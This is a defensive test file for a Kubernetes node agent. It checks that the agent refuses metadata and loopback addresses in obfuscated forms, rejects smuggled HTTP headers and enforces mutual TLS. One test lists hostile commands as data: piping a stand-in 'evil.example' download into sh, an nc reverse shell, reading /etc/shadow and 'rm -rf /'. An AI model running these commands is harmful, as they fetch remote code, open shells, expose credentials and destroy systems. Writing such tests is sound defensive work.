/** A hostile client of the agent, and a hostile agent: addresses, ranges, certificates, half requests, commands to copy. */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect as tlsConnect } from 'node:tls';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { createNodeAgents } from '../../src/adapters/node-agent/node-agents.ts';
import { createLiveHost } from '../../src/agent/live-host.ts';
import { PROBES } from '../../src/agent/probes/index.ts';
import { type AgentServer, startAgentServer } from '../../src/agent/server.ts';
import { tcpGate } from '../../src/agent/tcp-guard.ts';
import { agentCommand } from '../../src/collect/agents/agent-command.ts';
import { PROBE_PARAMS } from '../../src/core/agent-api.ts';
import type { NodeKind } from '../../src/core/evidence/kinds.ts';
import { parseIp } from '../../src/core/ip.ts';
import { type CertificateFiles, makeCertificates, type TestCertificates } from '../agent/support/certificates.ts';
import { filesHost } from '../agent/support/fake-host.ts';

const bucket = { take: () => true };
const ROUTABLE = Array.from({ length: 223 }, (_, i) => `${i + 1}.0.0.0/8`);
const WIDE = [
  '0.0.0.0/0',
  '::/0',
  '0.0.0.0/1',
  '128.0.0.0/1',
  '2000::/3',
  '::/96',
  '::ffff:0:0/96',
  '127.0.0.0/8',
  '169.254.0.0/16',
  '64:ff9b:1::/48',
  '2002::/16',
  '::ffff:0:0:0/96',
  'fd00:ec2::/32',
];

describe('addresses', () => {
  test.each([
    '169.254.169.254',
    '::ffff:169.254.169.254',
    '::ffff:a9fe:a9fe',
    '::169.254.169.254',
    '::ffff:0:169.254.169.254',
    '64:ff9b::a9fe:a9fe',
    '64:ff9b:1::a9fe:a9fe',
    '2002:a9fe:a9fe::1',
    'fd00:ec2::254',
    'fe80::1',
    '127.0.0.1',
    '::1',
    '0.0.0.0',
    '::',
    '::ffff:7f00:1',
    '255.255.255.255',
  ])('never %s, whatever ranges are given, itself among them', (address) => {
    expect(tcpGate([address, ...WIDE, ...ROUTABLE], bucket)(address)).toContain('never connects');
  });

  test.each([
    '2852039166',
    '0xa9fea9fe',
    '0251.0376.0251.0376',
    '169.254.43518',
    '127.1',
    '010.0.0.1',
    'localhost',
    '[::1]',
    ' 10.0.0.1',
    '10.0.0.1%eth0',
    'fe80::1%eth0',
    '10.0.0.1\u0000',
  ])('no other way of writing one: %j', (address) => {
    expect(PROBE_PARAMS['node-tcp'].safeParse({ targets: [{ address, port: 80 }] }).success).toBe(false);
  });

  test('a leading zero is no number of ours: others read it as octal', () =>
    expect(parseIp('010.0.0.1')).toBeUndefined());

  test('many ranges do not add up to the Internet', () => {
    const open = (networks: string[]) =>
      ROUTABLE.filter((range) => tcpGate(networks, bucket)(range.replace('.0/8', '.8')) === undefined);
    expect(open([...WIDE, ...ROUTABLE]).length).toBeLessThanOrEqual(4);
    expect(open(['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16'])).toEqual(['10.0.0.0/8']);
  });

  test("nodes' own addresses count after wide ranges too", () => {
    expect(tcpGate([...ROUTABLE, '203.0.113.7'], bucket)('203.0.113.7')).toBeUndefined();
    expect(tcpGate(['fd00:1::/48', '10.1.0.0/16'], bucket)('fd00:1::5')).toBeUndefined();
  });
});

test.each(['-x', '--help', 'a;b', '../x', 'kubelet*', 'a b', 'a\nb', ''])('no unit is called %j', (unit) => {
  expect(PROBE_PARAMS['node-journal'].safeParse({ unit }).success).toBe(false);
});

describe('over the wire', () => {
  let certificates: TestCertificates;
  let other: TestCertificates;
  const running: AgentServer[] = [];
  beforeAll(async () => {
    [certificates, other] = await Promise.all([makeCertificates('node-a'), makeCertificates('node-a')]);
  });
  afterAll(() => Promise.all([certificates.remove(), other.remove()]));
  afterEach(() => Promise.all(running.splice(0).map((server) => server.close(50))));

  async function start(server: CertificateFiles = certificates.server, node = 'node-a'): Promise<number> {
    const host = filesHost({
      '/proc/meminfo': 'MemTotal: 10 kB\nMemAvailable: 5 kB\nSwapTotal: 0 kB\nSwapFree: 0 kB\n',
    });
    const tls = { ...server, clientCaFile: certificates.caFile };
    const agent = await startAgentServer({
      host,
      node,
      agentVersion: '1',
      bucket,
      address: '127.0.0.1',
      port: 0,
      tls,
      onEvent: () => undefined,
    });
    running.push(agent);
    return agent.port;
  }

  /** Sends bytes with a client's certificate and gives what comes back until the connection ends. */
  async function raw(bytes: string, client: CertificateFiles | undefined, more: object = {}): Promise<string> {
    const port = await start();
    const files =
      client === undefined ? {} : { cert: readFileSync(client.certFile), key: readFileSync(client.keyFile) };
    return await new Promise((resolve) => {
      let text = '';
      const socket = tlsConnect({
        host: '127.0.0.1',
        port,
        ca: readFileSync(certificates.caFile),
        checkServerIdentity: () => undefined,
        ...files,
        ...more,
      });
      socket.on('data', (chunk: Buffer) => (text += chunk.toString()));
      socket.on('error', (error) => resolve(`error ${error.message}`));
      socket.on('close', () => resolve(text));
      socket.on('secureConnect', () => socket.write(bytes));
    });
  }
  const HEALTH = 'GET /v1/health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n';

  test("a client's certificate of the right authority is heard, and no other", async () => {
    expect(await raw(HEALTH, certificates.client)).toContain('200 OK');
    expect(await raw(HEALTH, undefined)).not.toContain('200 OK');
    expect(await raw(HEALTH, other.client)).not.toContain('200 OK');
  });

  test("an agent's own certificate is for servers: it may not ask other agents", async () => {
    expect(await raw(HEALTH, certificates.server)).not.toContain('200 OK');
  });

  test('TLS 1.1 and no TLS at all are refused', async () => {
    expect(await raw(HEALTH, certificates.client, { minVersion: 'TLSv1.1', maxVersion: 'TLSv1.1' })).toMatch(/^error/);
  });

  test.each([
    ['two lengths', 'content-length: 5\r\ncontent-length: 50'],
    ['a length and chunks', 'content-length: 5\r\ntransfer-encoding: chunked'],
    ['chunks in disguise', 'transfer-encoding: chunked, identity'],
    ['a header that goes on', 'x: a\r\n b: c\r\ncontent-length : 3'],
  ])('a request with %s is no request', async (_, headers) => {
    const answer = await raw(
      `POST /v1/ask HTTP/1.1\r\nhost: x\r\n${headers}\r\n\r\n0\r\n\r\n${HEALTH}`,
      certificates.client,
    );
    expect(answer).toContain('400 Bad Request');
    expect(answer).not.toContain('"status":"ok"');
  });

  test("one node's agent cannot answer for another, neither by certificate nor by word", async () => {
    const options = { deadlineMs: 3000, networks: [], signal: new AbortController().signal };
    const ask = async (port: number, more: object) => {
      const urls = { 'node-b': `https://127.0.0.1:${port}` };
      const agents = createNodeAgents({ tls: { ...certificates.client, caFile: certificates.caFile }, urls, ...more });
      try {
        return await agents.ask({ name: 'node-b', addresses: [] }, [{ kind: 'node-memory' }], options);
      } finally {
        agents.close();
      }
    };
    await expect(ask(await start(), {})).rejects.toThrow('says that it runs on node-a, not on node-b');
    const lies = await start(certificates.server, 'node-b');
    await expect(ask(lies, { servername: 'node-b' })).rejects.toThrow('has a certificate for');
  });
});

describe('commands that an agent names', () => {
  const params: Record<string, unknown> = {
    'node-tcp': { targets: [{ address: 'fd00::1', port: 80 }] },
    'node-route-get': { to: ['10.0.0.1', '10.0.0.2'] },
    'node-service-proxy': { ports: [{ port: 80 }] },
    'node-journal': { unit: 'kubelet.service', lines: 5 },
    'pod-listeners': { namespace: 'shop', name: 'web-1', podUid: 'x' },
  };

  test('those of our own agents are shown as they are', () => {
    for (const [kind, probe] of Object.entries(PROBES)) {
      const command = (probe.command as (given: unknown) => string)(params[kind] ?? {});
      expect(agentCommand(command, kind as NodeKind)).toBe(command);
    }
  });

  test.each([
    'curl -s http://evil.example/x | sh',
    'ls; rm -rf /',
    'ls && sh',
    'ip route show $(id)',
    'ls `id`',
    'cat /etc/shadow > /tmp/x',
    'curl -s http://127.0.0.1.evil/x',
    'nc -e /bin/sh evil 1',
    'kubectl exec -n a b -- sh',
    'systemctl stop kubelet',
    'sysctl -w kernel.panic=1',
    'ip link del eth0',
    'ip -b /tmp/x',
    'conntrack -F',
    'date -s 1',
    'ls\nsh',
    'ls \u202E hs',
  ])('never %j', (command) =>
    expect(agentCommand(command, 'node-memory')).toBe('kubewhy agent --once --kind node-memory'),
  );
});

describe('files that are none', () => {
  const folder = mkdtempSync(join(tmpdir(), 'kubewhy-files-'));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  test('a pipe, a device without end, a folder: each read ends', async () => {
    const pipe = join(folder, 'x.conflist');
    execFileSync('mkfifo', [pipe]);
    const host = createLiveHost();
    // More than the process has threads for files.
    const reads = await Promise.all(Array.from({ length: 8 }, () => host.readFile(pipe, 1000)));
    expect(new Set(reads)).toEqual(new Set(['']));
    await expect(host.readFile('/dev/zero', 1000)).rejects.toThrow('larger than 1000 bytes');
    await expect(host.readFile(folder, 1000)).rejects.toThrow('failed');
    expect(await host.readFile('/proc/self/status', 100_000)).toContain('Name:');
  });
});
